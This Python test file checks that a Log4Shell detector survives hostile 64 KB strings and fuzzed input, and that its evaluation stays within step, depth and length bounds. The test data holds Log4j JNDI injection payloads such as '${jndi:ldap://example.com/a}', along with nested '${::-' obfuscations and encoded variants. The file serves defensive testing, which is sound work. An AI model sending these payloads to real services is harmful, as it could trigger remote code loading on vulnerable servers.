"""Bounded work: hostile strings and fuzzed input end in a verdict, never a crash."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detectors import analyze, analyze_fields, find_candidates, may_contain_lookup
from detectors.engine import MAX_LENGTH
from detectors.interpreter import DEFAULT_MAX_STEPS, evaluate

KB64 = 65_536
HOSTILE = {
    "dollar-brace": "${" * (KB64 // 2),
    "deep-nesting": "${" * (KB64 // 4) + "}" * (KB64 // 4),
    "flat-unresolved": "${a}" * (KB64 // 4),
    "flat-defaults": "${::-a}" * (KB64 // 7),
    "deep-defaults": "${::-" * (KB64 // 6) + "}" * (KB64 // 6),
    "escapes": "$${" * (KB64 // 3),
    "recursion": "${${::-${::-$${::-j}}}}" * (KB64 // 23),
    "closing-braces": "}" * KB64,
    "jndi-prefixes": "${jndi:" * (KB64 // 7),
    "lower-nesting": "${lower:" * (KB64 // 16) + "}" * (KB64 // 16),
    "many-lookups": "${jndi:ldap://example.com/a}" * (KB64 // 28),
    "percent-chain": "%25" * (KB64 // 3),
    "entities": "&#36;&#123;" * (KB64 // 11),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_64k_string_ends_in_a_verdict(name: str) -> None:
    value = HOSTILE[name]

    verdict = analyze(value, "http.request.body.content")

    assert verdict.field == "http.request.body.content"
    if verdict.limit_hit is not None:
        assert verdict.malicious or verdict.inert
        assert "limit-hit" in verdict.techniques


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_64k_string_evaluation_stays_within_the_step_bound(name: str) -> None:
    evaluation = evaluate(HOSTILE[name])

    assert evaluation.steps <= DEFAULT_MAX_STEPS + 1


def test_nesting_deeper_than_the_bound_reports_depth() -> None:
    verdict = analyze("${" * 5000 + "jndi:ldap://example.com/a" + "}" * 5000)

    assert verdict.limit_hit == "depth"
    assert verdict.inert


def test_many_lookups_report_steps_and_keep_what_was_found() -> None:
    verdict = analyze("${a}" * 1200 + "${jndi:ldap://example.com/a}")

    assert verdict.limit_hit == "steps"
    assert not verdict.malicious and verdict.inert


def test_overlong_value_is_cut_and_says_so() -> None:
    verdict = analyze("${jndi:ldap://example.com/a}" + "x" * MAX_LENGTH)

    assert verdict.limit_hit == "length"
    assert verdict.malicious


@settings(max_examples=1500, suppress_health_check=[HealthCheck.too_slow])
@given(
    # every code point, lone surrogates included
    st.text(st.characters(exclude_categories=()), max_size=300),
    st.sampled_from(["url.original", "http.request.body.content"]),
)
def test_fuzzed_text_never_raises(value: str, field: str) -> None:
    verdict = analyze(value, field)

    assert verdict.malicious == bool(verdict.lookups)
    assert not (verdict.malicious and verdict.inert)


_TOKENS = st.sampled_from(
    [
        "${",
        "}",
        ":-",
        "$",
        "jndi:",
        "lower:",
        "upper:",
        "date:'",
        "'",
        "env:",
        "::-",
        "ldap://",
        "%24",
        "%7B",
        "\\u0024",
        "&#36;",
        "Basic ",
        "java:",
        "${java:x}",
        "a",
    ]
)


@settings(max_examples=1500, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(_TOKENS, st.text(max_size=3)), max_size=40).map("".join))
def test_fuzzed_lookup_grammar_never_raises_and_stays_bounded(value: str) -> None:
    evaluation = evaluate(value)
    record = analyze_fields([("url.original", value), ("user_agent.original", value)])

    assert evaluation.steps <= DEFAULT_MAX_STEPS + 1
    assert record.malicious == any(f.malicious for f in record.fields)


@settings(max_examples=500)
@given(st.binary(max_size=400))
def test_prefilter_accepts_any_bytes(data: bytes) -> None:
    lines = data.split(b"\n")

    assert find_candidates(data) == [
        i for i, line in enumerate(lines) if may_contain_lookup(line)
    ]
